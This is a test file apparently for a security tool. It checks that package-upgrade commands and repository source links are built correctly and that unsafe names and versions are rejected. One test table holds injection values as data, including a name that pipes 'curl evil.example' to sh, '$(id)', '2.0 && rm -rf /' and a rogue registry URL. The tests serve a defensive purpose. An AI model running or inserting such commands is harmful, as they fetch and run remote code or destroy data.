import { describe, expect, it } from "vitest";
import { sourceLink } from "./source-link";
import { upgradeOf } from "./upgrade";

const component = (purl: string, version: string, ...fixed: string[]) => ({
  name: "any",
  purl,
  version,
  fixed_versions: fixed,
});

describe("the command that mends a package", () => {
  it.each([
    ["pkg:npm/lodash@4.17.15", "npm install lodash@4.17.21"],
    ["pkg:npm/%40babel/traverse@7.0.0", "npm install @babel/traverse@4.17.21"],
    ["pkg:npm/@babel/traverse@7.0.0", "npm install @babel/traverse@4.17.21"],
    ["pkg:pypi/certifi@2022.9.24", "pip install certifi==4.17.21"],
    ["pkg:golang/golang.org/x/crypto@v0.30.0", "go get golang.org/x/crypto@v4.17.21"],
    ["pkg:cargo/time@0.1.0", "cargo update -p time --precise 4.17.21"],
    [
      "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
      "mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=4.17.21",
    ],
    ["pkg:deb/debian/liblzma5@5.6.0-0.2?arch=amd64", "apt-get install --only-upgrade liblzma5"],
  ])("is written for %s", (purl, command) => {
    expect(upgradeOf(component(purl, "1.0", "4.17.21"))?.command).toBe(command);
  });

  it("brings the nearest of several fixed versions, and none where they cannot be compared", () => {
    expect(upgradeOf(component("pkg:npm/qs", "6.5.1", "6.10.0", "6.5.3", "6.2.4"))?.command).toBe(
      "npm install qs@6.5.3",
    );
    expect(upgradeOf(component("pkg:npm/qs", "6.5.1", "6.5.3-rc1", "6.6"))).toBeNull();
    expect(upgradeOf(component("pkg:npm/qs", "6.5.1"))).toBeNull();
  });

  it.each([
    ["pkg:npm/lodash;curl%20evil.example|sh@1", "2.0"],
    ["pkg:npm/%24(id)@1", "2.0"],
    ["pkg:npm/-g@1", "2.0"],
    ["pkg:npm/lodash@1", "2.0 && rm -rf /"],
    ["pkg:npm/lodash@1", "--registry=http://evil.example"],
    ["pkg:npm/%zz@1", "2.0"],
    ["pkg:generic/lodash@1", "2.0"],
  ])("is not written from a name or a version that a shell would read otherwise: %s %s", (purl, fixed) => {
    expect(upgradeOf(component(purl, "1", fixed))).toBeNull();
  });
});

describe("the way to the line in the repository", () => {
  const at = (path: string, line: number | null = 12, more: object = {}) => ({
    locations: [{ path, line, ...more }],
    components: [],
    occurrences: [{ is_open: true, ref: "release/1.2" }] as never,
  });
  const known = (value: string) => [{ kind: "repository", value }];

  it.each([
    ["github.com/team/shop", "https://github.com/team/shop/blob/release/1.2/src/a.py#L12"],
    ["gitlab.example.org/team/shop", "https://gitlab.example.org/team/shop/-/blob/release/1.2/src/a.py#L12"],
    ["bitbucket.org/team/shop", "https://bitbucket.org/team/shop/src/release/1.2/src/a.py#lines-12"],
  ])("leads into %s", (repository, href) => {
    expect(sourceLink(known(repository), at("./src/a.py"))?.href).toBe(href);
  });

  it("names the commit where the scanner did, and escapes what a path may hold", () => {
    expect(sourceLink(known("github.com/t/s"), at("src/a b#?.py", null, { commit: "abc123" }))?.href).toBe(
      "https://github.com/t/s/blob/abc123/src/a%20b%23%3F.py",
    );
  });

  it.each(["/usr/src/app/a.py", "../../a.py", "C:\\build\\a.py", "app.jar:BOOT-INF/lib/a.jar"])(
    "is not offered for %s, which is no path in it",
    (path) => expect(sourceLink(known("github.com/t/s"), at(path))).toBeNull(),
  );

  it("is not offered where the repository is not known, is one of several, or shows files in another way", () => {
    expect(sourceLink([], at("a.py"))).toBeNull();
    expect(sourceLink(known("git.example.org/t/s"), at("a.py"))).toBeNull();
    expect(sourceLink([...known("github.com/t/s"), ...known("github.com/t/u")], at("a.py"))).toBeNull();
  });
});
